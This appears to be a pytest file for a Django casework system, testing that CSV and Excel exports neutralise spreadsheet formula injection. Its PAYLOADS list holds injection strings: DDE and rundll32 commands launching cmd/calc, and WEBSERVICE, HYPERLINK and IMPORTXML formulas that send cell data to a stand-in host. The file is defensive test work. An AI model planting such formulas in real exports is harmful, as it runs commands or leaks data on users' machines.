import csv
import io
from uuid import uuid4
from zipfile import ZipFile

import openpyxl
import pytest
from django.utils import timezone

from applications.casework import exporting
from applications.casework.listing import Row
from tests.factories.casework import sent_application
from tests.factories.drafting import ApplicationInstitutionFactory
from tests.factories.organisations import MunicipalityFactory
from tests.factories.rounds import RoundFactory

COMMAND = "cmd|' /C calc'!A0"
# What is known to have been carried out by a spreadsheet, in every dress
PAYLOADS = [
    "=1+1",
    "=" + COMMAND,
    "=HYPERLINK(\"https://ond.example/?x=\"&A1,\"Klik her\")",
    "=WEBSERVICE(\"https://ond.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"https://ond.example/?\",A2:E2),\"//a\")",
    "=IMAGE(\"https://ond.example/a.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=FILTERXML(WEBSERVICE(\"https://ond.example\"),\"//a\")",
    "=INDIRECT(\"A1\")",
    "=LOPSLAG(1;A1:B2;2)",
    "=1+1\";=2+2",
    "={1;2}",
    "==1",
    "=-1",
    "+1+1",
    "+" + COMMAND,
    "+45 12 34 56 78",
    "-1+1",
    "-" + COMMAND,
    "-2+3+" + COMMAND,
    "@SUM(1+1)",
    "@" + COMMAND,
    "@=1+1",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\ttekst",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202f\u200e=1+1",
    "\x0b=1+1",
    "\x01=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
]  # fmt: skip
PLAIN = ["Skive Kommune", 'Børnehuset "Solen"; afd. 2', "a=b", "2017-0001", "1.5", "'=1+1", "Ærø\nØ", "", "TRUE"]


def row(text, **fields):
    """A row with the text wherever an applicant can have written it."""
    facts = {
        "pk": uuid4(),
        "round_pk": uuid4(),
        "reference": "2017-0001",
        "applicant": text,
        "applicant_kind": "private",
        "municipality": text,
        "region": text,
        "population": 46_599,
        "programme": text,
        "round": text,
        "round_status": "assessing",
        "status": "submitted",
        "received_at": timezone.now(),
        "withdrawn_at": None,
        "checked_at": None,
        "waits": False,
        "is_heard": False,
        "has_unseen_paper": False,
        "institutions": ((text, text),),
        "themes": (text,),
    }
    return Row(**{**facts, **fields})


def applied_as(text):
    """An application with the text wherever a person can have written it."""
    place = MunicipalityFactory(name=text, short_name=text[:30])
    application = sent_application(round=RoundFactory(closed=True, name=text), applicant=place)
    ApplicationInstitutionFactory(application=application, name=text)
    return application


@pytest.fixture
def exported(db):
    """The cells that such applications come to, as CSV and as a workbook."""

    def export(texts):
        keys = [applied_as(text).pk for text in texts]
        text = b"".join(exporting.csv_lines(keys)).decode("utf-8-sig")
        file = io.BytesIO()
        exporting.write_workbook(keys, file)
        lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        return lines[1:], file

    return export


def test_there_are_forty_payloads_and_more():
    assert len(set(PAYLOADS)) == 44


def test_no_cell_of_a_csv_is_a_formula(exported):
    lines, _ = exported(PAYLOADS)

    assert [line[1] for line in lines] == [f"'{text}" for text in PAYLOADS]
    assert [len(line) for line in lines] == [len(exporting.COLUMNS)] * len(PAYLOADS)
    cells = [cell for line in lines for cell in line]
    assert [cell for cell in cells if cell.lstrip()[:1] in {*"=+-@|%＝＋－＠"} and cell] == []


def test_no_cell_of_a_workbook_is_a_formula_and_none_is_a_link(exported):
    _, file = exported(PAYLOADS)

    sheet = openpyxl.load_workbook(file).active
    kinds = {cell.data_type for line in sheet.iter_rows(min_row=2) for cell in line if cell.value is not None}
    assert kinds == {"s", "n", "d"}
    assert {sheet.cell(number, 2).quotePrefix for number in range(2, len(PAYLOADS) + 2)} == {True}
    with ZipFile(file) as parts:
        xml = parts.read("xl/worksheets/sheet1.xml").decode()
        assert [name for name in parts.namelist() if "external" in name or "_rels/sheet" in name] == []
    assert (xml.count("<f>"), xml.count("<f "), xml.count("<hyperlink")) == (0, 0, 0)


def test_a_formula_would_have_been_found(tmp_path):
    """The red twin: the same look at a workbook that has one."""
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(tmp_path / "bad.xlsx")

    assert openpyxl.load_workbook(tmp_path / "bad.xlsx").active["A1"].data_type == "f"


def test_plain_texts_stay_as_they_are(exported):
    lines, file = exported(PLAIN)

    assert [line[1] for line in lines] == PLAIN
    sheet = openpyxl.load_workbook(file).active
    assert [sheet.cell(number, 2).value or "" for number in range(2, len(PLAIN) + 2)] == PLAIN


@pytest.mark.django_db
def test_a_long_list_is_read_a_chunk_at_a_time(monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exporting, "CHUNK", 2)
    first = sent_application()
    keys = [first.pk] + [
        sent_application(round=first.round, applicant=MunicipalityFactory(short_name=f"Sted {n}")).pk for n in range(4)
    ]
    lines = exporting.csv_lines(keys)

    with django_assert_num_queries(0):
        next(lines)
    with django_assert_num_queries(5):
        next(lines)
        next(lines)
    with django_assert_num_queries(10):
        assert len(list(lines)) == 3


@pytest.mark.parametrize(
    ("fields", "word"),
    [
        ({}, "Ikke kontrolleret"),
        ({"checked_at": timezone.now()}, "Kontrolleret"),
        ({"round_status": "announced"}, ""),
        ({"status": "withdrawn"}, ""),
    ],
)
def test_the_formal_check_in_a_word(fields, word):
    column = next(one for one in exporting.COLUMNS if one.title == "Formel kontrol")

    assert column.value(row("", **fields)) == word
